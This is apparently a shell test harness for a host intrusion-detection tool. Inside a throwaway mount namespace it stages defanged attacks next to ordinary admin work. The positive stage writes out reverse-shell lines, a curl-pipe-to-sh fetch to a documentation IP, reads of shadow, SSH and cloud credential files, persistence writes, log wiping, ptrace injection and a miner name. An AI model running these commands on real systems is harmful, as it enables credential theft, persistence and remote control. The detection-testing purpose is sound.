# Run by starter.rs under `unshare -m`: attacks in a harmless form and ordinary work, on copies of the system's folders that end
# with this mount namespace. Stages are processes of their own, whose descendants the test can tell apart.
# `all` begins when a line comes on its input, and ends without one when its input ends.
#   stages.sh STAGE|all OUT
set -u
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin LC_ALL=C HOME=/root
unset LD_PRELOAD LD_LIBRARY_PATH
self=$0 stage=$1 out=$2 opt=/opt/starter
# Seconds for all stages together.
bound=60

# A copy of true by this name, and its path.
named() { cp /bin/true "$opt/bin/$1"; }
must() { "$@" >>"$out/log" 2>&1 || { echo "$stage: failed: $*" >>"$out/failed"; }; }
tell() { printf '%s\n' "$$" >"$out/$stage.pid"; }

setup() {
    mount --make-rprivate /
    mkdir -p "$out/over"
    mount -t tmpfs starter "$out/over" || exit 3
    for place in etc usr var; do
        mkdir -p "$out/over/$place/upper" "$out/over/$place/work"
        mount -t overlay -o "lowerdir=/$place,upperdir=$out/over/$place/upper,workdir=$out/over/$place/work" starter "/$place" || exit 3
    done
    # The scripts stay readable when the folders above them are hidden.
    cp "$self" "$out/stages"
    for place in root home opt run dev/shm; do mount -t tmpfs starter "/$place" || exit 3; done
    mkdir -p /run/lock
    : >"$out/over/helper"
    mount --bind "$out/over/helper" /proc/sys/kernel/core_pattern || exit 3
    mkdir -p "$opt/bin" /root/.ssh /root/.aws /root/.config/gcloud /home/user/.ssh /home/user/.kube /etc/ssl/private /var/log /etc/cron.d \
        /etc/profile.d /etc/sudoers.d /etc/pam.d /etc/systemd/system /etc/cron.daily /run/secrets/kubernetes.io
    for file in /root/.ssh/id_ed25519 /root/.ssh/id_ed25519.pub /root/.aws/credentials /home/user/.ssh/id_rsa /home/user/.ssh/id_rsa.pub \
        /home/user/.kube/config /etc/ssl/private/server.key /etc/sudoers.d/starter; do
        echo starter >"$file"
    done
    echo line >/var/log/auth.log
    cp "$(command -v perl)" "$opt/bin/docker"
    for name in nginx postgres java cron; do cp /bin/bash "$opt/bin/$name"; done
    for name in crontab insmod modprobe nsenter chmod setcap XMRig nmap nc rm curl notaminer; do named "$name"; done
    # Programs that may: readers and writers under the names and in the folder of the tools.
    cp /bin/cat /usr/bin/ssh
    cp /bin/cat /usr/bin/kubectl
    cp /bin/cat /usr/sbin/sshd
    cp /usr/bin/tee /usr/sbin/visudo
    cp /usr/bin/tee /usr/sbin/rsyslogd
    cp /bin/bash /usr/lib/systemd/systemd-sysctl
    cp /bin/true "$opt/bin/runc-child"
    cp /bin/bash "$opt/bin/runc"
    # The image of a container.
    mkdir -p "$opt/box/lower" "$opt/box/upper" "$opt/box/work" "$opt/box/root"
    cp "$(command -v busybox)" "$opt/box/lower/busybox"
    # A program with its libraries, and one more of these.
    cp /bin/true "$opt/box/lower/loads"
    for file in $(ldd /bin/true | grep -o '/[^ ]*'); do
        mkdir -p "$opt/box/lower${file%/*}"
        cp "$file" "$opt/box/lower$file"
    done
    cp "$(library)" "$opt/box/lower/library.so"
    mount -t overlay -o "lowerdir=$opt/box/lower,upperdir=$opt/box/upper,workdir=$opt/box/work" starter "$opt/box/root" || exit 3
}

# A library that programs can be given.
library() { ldd /bin/true | grep -o '/[^ ]*libc\.so[^ ]*' | sed 's/libc\.so.*/libdl.so.2/'; }

# Runs a script in the container: what makes it one is its cgroup, and the root of a mount namespace of its own.
in_box() {
    hierarchy=/sys/fs/cgroup/pids
    [ -e "$hierarchy/cgroup.procs" ] || hierarchy=/sys/fs/cgroup
    box=docker/$(printf '%063d%d' 0 7)
    mkdir -p "$hierarchy/$box"
    must unshare -m --propagation private /bin/sh -c \
        'echo $$ >"$1/cgroup.procs" && cd "$2" && mount --move "$2" / && exec chroot . /busybox sh -c "$3"' \
        sh "$hierarchy/$box" "$opt/box/root" "$1"
    # The last of them may still be on its way out.
    for _ in 1 2 3 4 5 6 7 8 9 10; do rmdir "$hierarchy/$box" 2>/dev/null && break; sleep 0.1; done
    rmdir --ignore-fail-on-non-empty "$hierarchy/docker" 2>/dev/null
}

# Calls that no tool makes for us, by perl or a copy of it: ptrace, process_vm_writev, finit_module. (A text is handed over by its
# address, a number by itself.)
case $(uname -m) in
x86_64) ptrace=101 writev=311 load=313 mmap=9 memfd=319 ;;
*) ptrace=117 writev=271 load=273 mmap=222 memfd=279 ;;
esac
attach="my \$pid = 0 + shift; syscall($ptrace, 16, \$pid, 0, 0) and exit 1; waitpid \$pid, 0x40000000; syscall($ptrace, 17, \$pid, 0, 0)"
# One byte at the far end of its stack.
write="my \$pid = 0 + shift; open my \$maps, '<', \"/proc/\$pid/maps\"; my (\$line) = grep { /stack/ } <\$maps>; \$line =~ /^([0-9a-f]+)/;
my (\$byte, \$at) = ('x', hex \$1); my \$from = pack('P', \$byte) . pack('J', 1); my \$to = pack('JJ', \$at, 1);
exit(syscall($writev, \$pid, \$from, 1, \$to, 1, 0) != 1)"
# A file mapped with these rights, and one that is only memory.
map="my (\$path, \$rights) = @ARGV; open my \$file, '<', \$path or exit 1; exit(syscall($mmap, 0, 4096, 0 + \$rights, 2, fileno \$file, 0) < 0)"
memory="my (\$name, \$rights) = (@ARGV); my \$fd = syscall($memfd, \$name, 0); exit(syscall($mmap, 0, 4096, 0 + \$rights, 2, \$fd, 0) < 0)"
module="open my \$file, '<', shift or exit 1; my \$words = ''; syscall($load, fileno \$file, \$words, 0)"

# One for each rule, beside what it tells.
negative() {
    tell
    bin=$opt/bin
    # server-shell: a shell of nobody's, what an exception lets pass, an application server's ordinary shell
    /bin/sh -c true
    "$bin/nginx" -c '/bin/sh -c "exec /usr/bin/rotatelogs /var/log/nginx/access.log 86400"; true'
    "$bin/postgres" -c '/bin/sh -c "test ! -f /mnt/w/1 && cp pg_wal/1 /mnt/w/1"; true'
    "$bin/java" -c '/bin/sh -c "echo curl"; true'
    /usr/bin/id
    # A server that runs what nobody has written meanwhile, and an application server that builds and runs.
    "$bin/nginx" -c "/bin/true; true"
    cp /bin/true "$bin/helper"
    "$bin/java" -c "cp /bin/true $bin/built; $bin/built; true"
    "$bin/helper"
    # reverse-shell: a health check, a search for the text, a plain nc, a port of this host
    /bin/bash -c 'exec 3<>/dev/tcp/127.0.0.1/1'
    grep -c '/dev/tcp/127.0.0.1/1 0>&1' /etc/hostname
    "$bin/nc" -z 127.0.0.1 22
    perl -e 'print "socket"'
    perl -e '0 and "use IO::Socket; system q(true)"'
    # setuid: a program of the system's with such rights
    setpriv --reuid 65534 --regid 65534 --clear-groups /usr/bin/passwd --help
    # unusual-places
    "$bin/notaminer"
    exec 9<"$bin/runc-child"
    rm -f "$bin/runc-child"
    "$bin/runc" -c '/proc/self/fd/9; true'
    exec 9<&-
    # container-drift: what came with the image
    in_box '/busybox true; /busybox sh -c :; LD_PRELOAD=/library.so /loads'
    # libraries: the system's, one below /opt, data under /tmp, memory that is not executed, and what may
    LD_PRELOAD=$(library) /bin/true
    cp "$(library)" "$bin/library.so"
    LD_PRELOAD=$bin/library.so /bin/true
    cp "$(library)" "$out/data.so"
    must perl -e "$map" "$out/data.so" 1
    must perl -e "$memory" starter 1
    must perl -e "$memory" doublemapper 5
    cp /usr/bin/perl "$bin/java"
    must "$bin/java" -e "$map" "$out/data.so" 5
    cp /bin/bash "$bin/java"
    # credentials: public halves, names, and the tools themselves
    cat /root/.ssh/id_ed25519.pub /home/user/.ssh/id_rsa.pub /etc/passwd /etc/group
    ls -l /etc/shadow /root/.ssh /root/.aws /etc/ssl/private
    /usr/bin/ssh /root/.ssh/id_ed25519
    /usr/bin/kubectl /root/.aws/credentials /home/user/.kube/config
    /usr/sbin/sshd /etc/shadow /etc/sudoers.d/starter
    # persistence: read, not written; written by those that must; neighbours of the places
    cat /etc/cron.d/* /etc/profile /etc/pam.d/* /usr/bin/true
    echo x | /usr/sbin/visudo /etc/sudoers.d/starter
    echo x >/etc/starter.conf
    echo x >/home/user/.ssh/known_hosts
    mkdir -p /usr/local/bin
    cp /bin/true /usr/local/bin/starter
    "$bin/crontab" -l
    "$bin/modprobe" loop
    # What is no module is refused; where it lies is told all the same.
    mkdir -p /usr/lib/modules/starter
    echo 'no module' >/usr/lib/modules/starter/x.ko
    perl -e "$module" /usr/lib/modules/starter/x.ko
    # process-injection: a debugger, a request of one's own
    cp /usr/bin/perl "$bin/gdb"
    sleep 30 &
    must "$bin/gdb" -e "$attach" $!
    must "$bin/gdb" -e "$write" $!
    kill $!
    perl -e "exit(syscall($ptrace, 0, 0, 0, 0) != 0)"
    # logs: appended, rotated by their keeper, another file removed
    echo line >>/var/log/auth.log
    echo line | /usr/sbin/rsyslogd /var/log/auth.log
    "$bin/rm" /opt/starter/other.log
    # escape, setuid, mining, tools: read, and other arguments
    cat /proc/sys/kernel/core_pattern
    /usr/lib/systemd/systemd-sysctl -c ': >/proc/sys/kernel/core_pattern'
    "$bin/nsenter" -t 4711 -n
    runtime_socket "$bin/docker"
    "$bin/chmod" 0755 x
    "$bin/chmod" 2775 x
    "$bin/setcap" cap_net_bind_service=ep x
    unshare -n /bin/bash -c 'ip link set lo up; exec 3<>/dev/tcp/127.0.0.1/3333'
    "$bin/notaminer" --url=https://example.org
    "$bin/curl" http://127.0.0.1/
}

# A socket where Docker's is, under another name, and a program that connects to it.
runtime_socket() {
    perl -MIO::Socket::UNIX -e 'unlink "/run/docker.sock"; my $s = IO::Socket::UNIX->new(Local => "/run/docker.sock", Listen => 1) or die $!; symlink "/run/docker.sock", "/run/other.sock";
        if (fork) { wait; exit $? >> 8 } exec @ARGV' "$1" -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Peer => "/run/other.sock") or die $!'
}

# An hour of a host, without its waiting.
ordinary() {
    tell
    work=/opt/work
    mkdir -p "$work"
    cd "$work" || exit 3
    packages
    build
    cron
    services
    sessions
    scripts
    repository
}

# A package with everything that packages bring: installed, upgraded, removed.
packages() {
    mkdir -p pkg/DEBIAN pkg/usr/bin pkg/etc/cron.d pkg/etc/profile.d pkg/etc/pam.d pkg/etc/sudoers.d pkg/usr/lib/systemd/system pkg/etc/init.d
    printf '#!/bin/sh\nset -e\necho configured >/etc/cron.d/starter-made\ngrep -q root /etc/shadow\nchmod 4755 /usr/bin/starter-tool\n' >pkg/DEBIAN/postinst
    printf '#!/bin/sh\nrm -f /etc/cron.d/starter-made /var/log/starter.log\n' >pkg/DEBIAN/postrm
    chmod 755 pkg/DEBIAN/postinst pkg/DEBIAN/postrm
    cp /bin/true pkg/usr/bin/starter-tool
    for file in etc/cron.d/starter-pkg etc/profile.d/starter.sh etc/pam.d/starter etc/sudoers.d/starter-pkg usr/lib/systemd/system/starter.service \
        etc/init.d/starter; do echo '# starter' >"pkg/$file"; done
    for version in 1 2; do
        printf 'Package: sumun-starter-test\nVersion: %s\nArchitecture: all\nMaintainer: Test <test@example.com>\nDescription: test\n' "$version" >pkg/DEBIAN/control
        must dpkg-deb -b pkg starter.deb
        must dpkg -i starter.deb
    done
    must dpkg -s sumun-starter-test
    must dpkg -r sumun-starter-test
    must dpkg -P sumun-starter-test
    apt-cache policy dpkg >/dev/null 2>&1
}

build() {
    mkdir -p build
    for n in a b; do echo "int $n(void) { return 0; }" >build/$n.c; done
    echo 'int a(void); int b(void); int main(void) { return a() + b(); }' >build/main.c
    printf 'prog: a.o b.o main.o\n\tcc -o $@ $^\n%%.o: %%.c\n\tcc -c -o $@ $<\ninstall: prog\n\tinstall -D prog $(DESTDIR)/usr/local/bin/prog\n' >build/Makefile
    must make -C build
    must build/prog
    must make -C build install
    cp -a build build2
    rm -rf build2
}

# A job of every five minutes, the daily jobs, and the rotation of logs.
cron() {
    mkdir -p often daily
    printf '#!/bin/sh\ntest -d /run/lock && df / >/dev/null && date >/opt/work/last\n: >/opt/work/app.log\n' >often/check
    printf '#!/bin/sh\nfind /var/log -name "*.gz" -mtime +7 -exec rm -f {} +\n' >daily/clean
    # As Debian keeps copies of the account files.
    printf '#!/bin/sh\ncd /var/backups || exit 0\nfor file in passwd group shadow gshadow; do\n  cmp -s $file.bak /etc/$file || cp -p /etc/$file $file.bak\ndone\n' >daily/accounts
    chmod 755 often/check daily/clean daily/accounts
    mkdir -p /var/backups
    for _ in 1 2 3 4 5 6 7 8 9 10 11 12; do must "$opt/bin/cron" -c 'run-parts often; true'; done
    must "$opt/bin/cron" -c 'run-parts daily; true'
    [ ! -x /etc/cron.daily/dpkg ] || must /etc/cron.daily/dpkg
    # Renamed and packed: as logrotate does without copytruncate, whether it is installed or not.
    for n in 1 2 3; do
        echo "line $n" >>/var/log/syslog
        must mv /var/log/syslog "/var/log/syslog.$n"
        must gzip -f "/var/log/syslog.$n"
    done
    if command -v logrotate >/dev/null; then
        printf '/var/log/auth.log {\n  size 1\n  rotate 1\n  copytruncate\n}\n' >rotate.conf
        must logrotate -f -s "$work/rotate.state" rotate.conf
    fi
}

# Restarts, as an init script does them.
services() {
    cp /bin/sleep "$opt/bin/starter-daemon"
    for _ in 1 2 3; do
        must start-stop-daemon --start --background --make-pidfile --pidfile /run/starter.pid --startas "$opt/bin/starter-daemon" -- 30
        must start-stop-daemon --stop --pidfile /run/starter.pid --retry TERM/5
        rm -f /run/starter.pid
    done
    sysctl -n kernel.ostype >/dev/null 2>&1
}

sessions() {
    for _ in 1 2 3; do
        must bash -l -c 'ls /; ps ax; df; env; id; uname -a; cat /etc/os-release; history -a; cd /etc && grep -l nameserver resolv.conf; true'
    done
    must su -s /bin/bash -c 'id; uname -a; ls -la /; true' nobody
    must passwd -S root
    must chage -l root
    ! command -v ssh-keygen >/dev/null || must ssh-keygen -q -t ed25519 -N '' -f /opt/work/key
    mkdir -p there
    ! command -v scp >/dev/null || must scp -q /etc/hosts /etc/os-release there/
    find /etc /usr/bin -name 'p*' -type f >/dev/null 2>&1
    grep -r include /etc/default /etc/apt >/dev/null 2>&1
    sed -i 's/localhost/localhost/' /etc/hosts
}

scripts() {
    if [ -x /usr/bin/python3 ]; then
        must /usr/bin/python3 -c 'import json, os, subprocess, socket; print(json.dumps(os.listdir("/etc")), subprocess.run(["true"]), socket.gethostname())'
    fi
    must perl -MFile::Find -e 'find(sub { }, "/etc/default"); system("true"); print "done\n"'
    must awk -F: '{ print $1 }' /etc/passwd
    must tar -czf backup.tar.gz -C / etc/default etc/profile.d opt/work/daily
    must tar -tzf backup.tar.gz
    must gzip -t backup.tar.gz
}

repository() {
    command -v git >/dev/null || return 0
    must git init -q origin
    echo text >origin/file
    must git -C origin add file
    must git -C origin -c user.name=test -c user.email=test@example.com commit -qm one
    must git clone -q origin clone
    must git -C clone log --oneline
}

# Work of admins that is told by design: a change of these places looks the same whoever makes it (docs/policy.md).
expected() {
    tell
    cd /opt || exit 3
    # A backup of all of /etc, by a tool that copies.
    tar -cf /opt/etc.tar -C / etc
    # What is built and run below /tmp.
    cp /bin/true "$out/conftest"
    "$out/conftest"
    # A unit, a job and a key, written by hand.
    printf '[Service]\nExecStart=/bin/true\n' | tee /etc/systemd/system/own.service
    echo '0 3 * * * root true' | tee /etc/cron.d/own
    echo 'ssh-ed25519 AAAA own' | tee -a /root/.ssh/authorized_keys
    echo 'admin ALL=(ALL) ALL' | tee /etc/sudoers.d/own
    install -m 755 /bin/true /usr/bin/own
    # A look into the network by a tool that attackers use, too.
    "$opt/bin/nmap" -sn 192.0.2.0/30
}

positive() {
    tell
    bin=$opt/bin
    "$bin/nginx" -c '/bin/sh -c true; /usr/bin/id; true'
    "$bin/postgres" -c '/bin/sh -c "id; test ! -f x && cp a b; id"; true'
    "$bin/nginx" -c "cp /bin/true $bin/dropped; $bin/dropped; true"
    "$bin/java" -c '/bin/sh -c ": curl http://192.0.2.1/x | sh"; true'
    # The text alone: it is not run.
    /bin/bash -c 'true; : bash -i ">& /dev/tcp/192.0.2.1/4444 0>&1"'
    "$bin/nc" -e /bin/sh 192.0.2.1 4444
    perl -e '0 and "use socket; dup2; /bin/sh"'
    # Without a network: refused before a packet is made.
    unshare -n /bin/bash -c 'exec 3<>/dev/tcp/192.0.2.1/4444'
    cp /bin/true "$out/program"
    "$out/program"
    shm=$(mktemp -d /dev/shm/starter.XXXXXX)
    cp /bin/true "$shm/program"
    "$shm/program"
    printf '#!/bin/sh\n:\n' >"$shm/script"
    chmod 755 "$shm/script"
    "$shm/script"
    cp "$(library)" "$shm/library.so"
    LD_PRELOAD=$shm/library.so /bin/true
    rm -rf "$shm"
    cp /bin/true /home/user/as-root
    perl -e 'chmod 04755, shift' /home/user/as-root
    setpriv --reuid 65534 --regid 65534 --clear-groups /home/user/as-root
    named gone
    exec 9<"$bin/gone"
    rm -f "$bin/gone"
    /proc/self/fd/9
    exec 9<&-
    in_box '/busybox cp /busybox /fresh; /fresh true; /busybox cp /library.so /fresh.so; LD_PRELOAD=/fresh.so /loads; :'
    cp "$(library)" "$out/library.so"
    LD_PRELOAD=$out/library.so /bin/true
    must perl -e "$memory" starter 5
    cat /etc/shadow /root/.ssh/id_ed25519 /home/user/.ssh/id_rsa /etc/ssl/private/server.key
    cat /root/.aws/credentials /home/user/.kube/config
    echo token >/run/secrets/kubernetes.io/starter
    cat /run/secrets/kubernetes.io/starter
    rm -rf /run/secrets/kubernetes.io/starter
    echo '# starter' >/etc/cron.d/starter
    "$bin/crontab" -
    echo '# starter' >/etc/systemd/system/starter.service
    : >/etc/ld.so.preload
    rm -f /etc/ld.so.preload
    echo '# starter' >/etc/profile.d/starter.sh
    echo '# starter' >/etc/sudoers.d/starter-2
    echo key >/root/.ssh/authorized_keys
    echo key >/home/user/.ssh/authorized_keys
    cp /bin/true /usr/bin/starter
    "$bin/insmod" x.ko
    "$bin/modprobe" /tmp/x.ko
    echo 'no module' >"$out/x.ko"
    perl -e "$module" "$out/x.ko"
    sleep 30 &
    must perl -e "$attach" $!
    must perl -e "$write" $!
    kill $!
    : >/var/log/auth.log
    "$bin/rm" -f /var/log/auth.log
    : >/proc/sys/kernel/core_pattern
    "$bin/nsenter" -t 1 -m
    runtime_socket perl
    "$bin/chmod" u+s x
    "$bin/setcap" cap_setuid=ep x
    "$bin/XMRig"
    "$bin/nmap" -sV 192.0.2.1
}

case $stage in
all)
    setup >>"$out/log" 2>&1
    read -r _ || exit 4
    SECONDS=0
    for stage in negative ordinary expected positive; do
        timeout -k 1 "$((SECONDS < bound ? bound - SECONDS : 1))" bash "$out/stages" "$stage" "$out" >>"$out/log" 2>&1 </dev/null
        status=$?
        [ "$status" = 0 ] || echo "$stage: ended with $status after $SECONDS s" >>"$out/failed"
        echo "$stage: done after $SECONDS s" >>"$out/times"
    done
    exit 0
    ;;
*)
    "$stage"
    exit 0
    ;;
esac
